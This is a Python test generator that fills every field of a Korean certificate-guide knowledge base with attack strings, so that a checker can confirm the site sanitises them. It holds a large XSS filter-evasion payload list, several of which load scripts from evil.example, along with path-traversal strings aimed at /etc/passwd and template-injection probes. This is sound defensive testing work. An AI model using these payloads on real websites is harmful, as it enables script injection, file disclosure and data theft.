"""Generates attack payloads and a knowledge base that carries them in every field.

The payloads follow the classes of the OWASP XSS filter evasion cheat sheet (script and
event-handler tags, `javascript:`/`data:`/`vbscript:` in every URL form, entity and percent
encodings, case tricks, embedded tabs, newlines and NUL, nested and half-open tags, style,
SVG and MathML, meta refresh, base href), path traversal (dot segments in every encoding,
backslashes, NUL, UNC and file: paths) and template syntax (tera's `{{ }}`, `{% %}`,
`{# #}`), each in several encodings and wrappers (as text, as a Markdown link, image,
autolink and reference link). Script in a payload calls `__pwn()`, which the checker
defines, or `alert`, which it hooks.

usage: python3 tests/payloads/gen.py OUT GUIDES [--first N] [--benign] [--refuse FILE]
  OUT      the knowledge base to write (its content/ folder)
  GUIDES   how many guides; guide g has payload (g + k * slot) in slot `slot`, so with as
           many guides as payloads every payload lands in every field
  --first N  number the guides from N (default 0), for a run built in several parts
  --benign every slot gets harmless text instead (the baseline the checker learns from)
  --refuse FILE  a JSON list of [guide, slot] that `check` refused: those get harmless
           text, so the rest can be built
Writes OUT/payloads.json: the payloads and, per guide, which payload is in which slot at
which line.
"""

import json
import pathlib
import shutil
import sys

PWN = "__pwn(1)"


def base_payloads():
    """One of each attack, before encodings and wrappers."""
    js = f"javascript:{PWN}"
    xss = [
        f"<script>{PWN}</script>",
        f"<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        f"<script src=//evil.example/x.js></script>",
        f"<img src=x onerror={PWN}>",
        f"<IMG SRC=\"{js}\">",
        f"<IMG SRC={js}>",
        f"<IMG SRC=`{js}`>",
        f"<a onmouseover=\"{PWN}\">xxs link</a>",
        f"<IMG \"\"\"><SCRIPT>{PWN}</SCRIPT>\"\\>",
        f"<IMG SRC=/ onerror=\"{PWN}\"></img>",
        f"<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{PWN}\">",
        f"<IMG SRC=\"jav\tascript:{PWN};\">",
        f"<IMG SRC=\"jav&#x0A;ascript:{PWN};\">",
        f"<IMG SRC=\" &#14;  {js};\">",
        f"<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>",
        f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={PWN}>",
        f"<<SCRIPT>{PWN}//<</SCRIPT>",
        f"<SCRIPT SRC=//evil.example/.j>",
        f"<IMG SRC=\"`<javascript:{PWN}>`\"",
        f"<iframe src=http://evil.example/scriptlet.html <",
        f"\\\";{PWN};//",
        f"</TITLE><SCRIPT>{PWN};</SCRIPT>",
        f"<INPUT TYPE=\"IMAGE\" SRC=\"{js};\">",
        f"<BODY BACKGROUND=\"{js}\">",
        f"<IMG DYNSRC=\"{js}\">",
        f"<IMG LOWSRC=\"{js}\">",
        f"<STYLE>li {{list-style-image: url(\"{js}\");}}</STYLE><UL><LI>XSS</br>",
        f"<IMG SRC='vbscript:msgbox(\"XSS\")'>",
        f"<svg/onload={PWN}>",
        f"<svg><script>{PWN}</script></svg>",
        f"<BODY ONLOAD={PWN}>",
        f"<BGSOUND SRC=\"{js};\">",
        f"<LINK REL=\"stylesheet\" HREF=\"{js};\">",
        f"<STYLE>@import'https://evil.example/xss.css';</STYLE>",
        f"<META HTTP-EQUIV=\"Link\" Content=\"<https://evil.example/xss.css>; REL=stylesheet\">",
        f"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url={js};\">",
        f"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5fX3B3bigxKTwvc2NyaXB0Pg\">",
        f"<IFRAME SRC=\"{js};\"></IFRAME>",
        f"<IFRAME SRC=# onmouseover=\"{PWN}\"></IFRAME>",
        f"<FRAMESET><FRAME SRC=\"{js};\"></FRAMESET>",
        f"<TABLE BACKGROUND=\"{js}\">",
        f"<DIV STYLE=\"background-image: url({js})\">",
        f"<DIV STYLE=\"width: expression({PWN});\">",
        f"<BASE HREF=\"{js};//\">",
        f"<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/scriptlet.html\"></OBJECT>",
        f"<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X19wd24oMSk+\" type=\"image/svg+xml\"></EMBED>",
        f"<details open ontoggle={PWN}>",
        f"<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror={PWN}></style></mtext></svg></mglyph></math>",
        f"<noscript><p title=\"</noscript><img src=x onerror={PWN}>\">",
        f"<!--<img src=\"--><img src=x onerror={PWN}//\">",
        f"<![CDATA[<script>{PWN}</script>]]>",
        f"<a href=\"javas&#99;ript:{PWN}\">x</a>",
        f"<a href=\"javascript&colon;{PWN}\">x</a>",
        f"<form action=\"{js}\"><button>x</button></form>",
        f"<button formaction=\"{js}\">x</button>",
        f"<video><source onerror=\"{PWN}\">",
        f"<audio src=x onerror={PWN}>",
        f"<object data=\"data:text/html,<script>{PWN}</script>\">",
        f"<isindex type=image src=1 onerror={PWN}>",
        f"<marquee onstart={PWN}>",
        f"<template><img src=x onerror={PWN}></template>",
        f"\"><script>{PWN}</script>",
        f"'><img src=x onerror={PWN}>",
        f"\" onmouseover=\"{PWN}\" x=\"",
        f"' autofocus onfocus='{PWN}",
        f"</textarea><script>{PWN}</script>",
        f"</script><script>{PWN}</script>",
        f"<scr<script>ipt>{PWN}</scr</script>ipt>",
        f"<<img src=x onerror={PWN}>>",
    ]
    # Link destinations: in Markdown they become href/src, in a URL field the address.
    urls = [
        js,
        f"JaVaScRiPt:{PWN}",
        f" javascript:{PWN}",
        f"java\tscript:{PWN}",
        f"java\nscript:{PWN}",
        f"java\u0000script:{PWN}",
        f"&#106;avascript:{PWN}",
        f"&#x6A;avascript&#x3A;{PWN}",
        f"javascript%3A{PWN}",
        f"data:text/html,<script>{PWN}</script>",
        f"data:text/html;base64,PHNjcmlwdD5fX3B3bigxKTwvc2NyaXB0Pg==",
        f"data:image/svg+xml,<svg onload={PWN}>",
        "vbscript:msgbox(1)",
        "//evil.example/x",
        "\\\\evil.example\\x",
        "https:evil.example",
        "https://evil.example/",
        "file:///etc/passwd",
    ]
    traversal = [
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "%2E%2E%2F%2E%2E%2Fetc%2Fpasswd",
        "..\\..\\..\\windows\\win.ini",
        "..%5c..%5c..%5cwindows%5cwin.ini",
        "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "....//....//etc/passwd",
        "..;/..;/etc/passwd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "../../etc/passwd%00.html",
        "../../etc/passwd\u0000.html",
        "/etc/passwd",
        "\\\\host\\share\\x",
        "../../../../../../../../../../../../tmp/x",
        "guides/../../../../etc/passwd",
    ]
    template = [
        "{{ 7*7 }}",
        "{{ __tera_context }}",
        "{{ get_env(name=\"HOME\") }}",
        "{% include \"/etc/passwd\" %}",
        "{% raw %}{{ 7*7 }}{% endraw %}",
        "{% for x in [1,2,3] %}{{ x }}{% endfor %}",
        "{# comment #}",
        "{{ config.base_url | safe }}",
        "{% set x = \"<script>__pwn(1)</script>\" %}{{ x | safe }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{constructor.constructor('__pwn(1)')()}}",
    ]
    return xss, urls, traversal, template


def entities(text, hexa=False):
    return "".join((f"&#x{ord(c):x};" if hexa else f"&#{ord(c)};") if c.isalpha() else c for c in text)


def variants():
    """Every payload, each base in several encodings and wrappers; distinct, in a fixed order."""
    xss, urls, traversal, template = base_payloads()
    out = []
    for p in xss:
        out += [
            p,
            p.upper(),
            "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(p)),
            f"안내 {p} 끝",
            f"**{p}**",
            f"`{p}`",
            f"> {p}",
            f"- {p}",
            entities(p),
            p.replace("<", "&lt;").replace(">", "&gt;"),
            p.replace(" ", "\t"),
            p.replace(" ", "\n"),
            p.replace("<", "<\u0000"),
            f"[링크]({p})",
            f"<{p}>",
        ]
    for u in urls + traversal:
        out += [
            u,
            u.upper(),
            f"[링크]({u})",
            f"[링크](<{u}>)",
            f"![그림]({u})",
            f"<{u}>",
            f"[링크][r]\n\n[r]: {u}",
            f"[링크]({u} \"\\\" onmouseover=__pwn(1) x=\\\"\")",
            f"https://example.org/{u}",
        ]
    for t in template:
        out += [t, f"안내 {t} 끝", f"[{t}]({t})", f"**{t}**"]
    seen, payloads = set(), []
    for p in out:
        if p not in seen and p.strip():
            seen.add(p)
            payloads.append(p)
    return payloads


# Every field a guide has, as (name, line template); `{}` is where a payload goes, as a
# double-quoted YAML string. The lines make a guide that passes `check` with harmless text.
GUIDE = """id: {id}
title: {title}
certificate: {certificate}
category: {category}
summary: {summary}
reviewed: 2026-11-01
facts:
  - id: validity
    label: {fact_label}
    value: {fact_value}
    source: agency
    quote: {fact_quote}
    validity:
      years: 3
    note: {fact_note}
  - id: renewal
    label: 갱신
    value: {renewal_value}
    source: agency
    quote: 만료 30일 전부터 갱신할 수 있습니다.
    before_expiry:
      days: 30
prepare:
  - {prepare}
procedures:
  - id: web
    channel: {channel}
    title: {procedure_title}
    prepare:
      - {procedure_prepare}
    steps:
      - id: open
        action: {action}
        detail: {detail}
        cautions:
          - text: {caution}
      - id: verify
        action: 본인 인증을 하세요
        choices:
          - label: {choice_label}
            detail: {choice_detail}
          - label: 다른 방법
        cautions:
          - failure: wrong-info
          - shared: keep-secret
    result: {result}
shared_cautions:
  - id: keep-secret
    text: {shared_caution}
questions:
  - id: question
    question: {question}
    answer: {answer}
situations:
  - kind: quick
    title: {situation_title}
    advice: {advice}
  - kind: long-term
    title: 오래 쓸 인증서가 필요한 경우
    advice: 만료 전에 연장하세요.
  - kind: precise
    title: 정밀 검증이 필요한 경우
    advice: 절차를 순서대로 지키세요.
failures:
  - id: wrong-info
    situation: {failure_situation}
    cause: {failure_cause}
    caution: {failure_caution}
checklist_table:
  - situation: {table_situation}
    blocker: {table_blocker}
    tip: {table_tip}
checklist:
  - moment: before
    mode: read-do
    title: {group_title}
    items:
      - id: item
        text: {item}
  - moment: after
    mode: do-confirm
    items:
      - id: done
        text: 만료일을 달력에 적어 두었다
sequence:
  - {sequence}
sources:
  - id: agency
    title: {source_title}
    publisher: {source_publisher}
    url: {source_url}
    checked: 2026-11-01
"""
SLOTS = [
    name
    for name in __import__("string").Formatter().parse(GUIDE)
    for name in [name[1]]
    if name and name not in ("id", "category")
]
BENIGN = {
    "fact_value": "발급일로부터 3년",
    "renewal_value": "만료 30일 전부터 갱신",
    "source_url": "https://agency.example.org/notice",
}
# Markdown slots get the payload as written; plain slots too (the page must show it as text).
STEP = 37  # coprime with the number of payloads in practice; spreads payloads over slots


# In the harmless knowledge base, Markdown fields show every element and attribute the
# sanitiser may write, so the checker learns them as the templates' own.
MARKDOWN = (
    "**굵게** *기울임* `코드` [링크](https://agency.example.org/notice \"제목\") 줄  \n바꿈 "
    "![그림](../../assets/favicon.svg \"제목\")\n\n> 인용\n\n- 목록\n\n3. 번호\n\n"
    "### 제목\n\n#### 제목\n\n##### 제목\n\n###### 제목\n\n---\n\n    코드 블록\n\n"
    "```sh\n코드\n```\n"
)
MARKDOWN_SLOTS = {"summary", "fact_note", "detail", "choice_detail", "result", "answer", "advice"}


def guide_text(number, payloads, refused, benign):
    values, lines = {"id": f"p-{number:04d}", "category": f"c{number % CATEGORIES}"}, {}
    for k, slot in enumerate(SLOTS):
        harmless = BENIGN.get(slot, f"안전한 글자 {slot} {number}")
        if benign and slot in MARKDOWN_SLOTS:
            text, index = MARKDOWN, None
        elif benign or [number, slot] in refused:
            text, index = harmless, None
        else:
            index = (number + STEP * k) % len(payloads)
            text = payloads[index]
            # Fields whose meaning the reminder or lint needs keep it, with the payload after.
            if slot in ("fact_value", "renewal_value"):
                text = f"{harmless} {text}"
        values[slot] = json.dumps(text, ensure_ascii=False)
        lines[slot] = index
    text = GUIDE.format(**values)
    where = {}
    for n, line in enumerate(text.split("\n"), 1):
        for slot in SLOTS:
            if f": {values[slot]}" in line or line.strip() == f"- {values[slot]}":
                where.setdefault(slot, n)
    return text, {slot: [lines[slot], where.get(slot)] for slot in SLOTS}


SITE = """title: 공격 문자열 검사
description: 모든 칸에 공격 문자열을 넣은 지식 베이스입니다.
base_url: https://guides.example.org/kb/
language: ko
review_interval_days: 180
categories:
"""

# Categories, whose titles are payloads too: they show on the home page, on each category's
# pages and in their titles. Guide n is in category n % CATEGORIES.
CATEGORIES = 3


def site_text(first, payloads, benign):
    text = SITE
    for c in range(CATEGORIES):
        title = f"안전한 분류 {c}" if benign else payloads[(first + 7 * c) % len(payloads)]
        text += f"  - id: c{c}\n    title: {json.dumps(title, ensure_ascii=False)}\n"
    return text


def main():
    args = sys.argv[1:]
    benign = "--benign" in args
    refused = []
    if "--refuse" in args:
        refused = json.loads(pathlib.Path(args[args.index("--refuse") + 1]).read_text())
    out, guides = pathlib.Path(args[0]), int(args[1])
    # Guides FIRST .. FIRST+GUIDES-1: a full run is built in several knowledge bases.
    first = int(args[args.index("--first") + 1]) if "--first" in args else 0
    payloads = variants()
    if out.exists():
        shutil.rmtree(out)
    (out / "content/guides").mkdir(parents=True)
    (out / "content/site.yaml").write_text(site_text(first, payloads, benign))
    (out / "content/terminology.yaml").write_text(
        "terms:\n  - preferred: 공동인증서\n    forbidden: [공인인증서]\n    reason: 이름이 바뀌었습니다.\n"
    )
    placed = {}
    for number in range(first, first + guides):
        text, slots = guide_text(number, payloads, refused, benign)
        (out / f"content/guides/p-{number:04d}.yaml").write_text(text)
        placed[f"content/guides/p-{number:04d}.yaml"] = slots
    (out / "payloads.json").write_text(
        json.dumps({"payloads": payloads, "slots": SLOTS, "guides": placed}, ensure_ascii=False)
    )
    print(f"{len(payloads)} payloads, {len(SLOTS)} slots, {guides} guides in {out}")


if __name__ == "__main__":
    main()
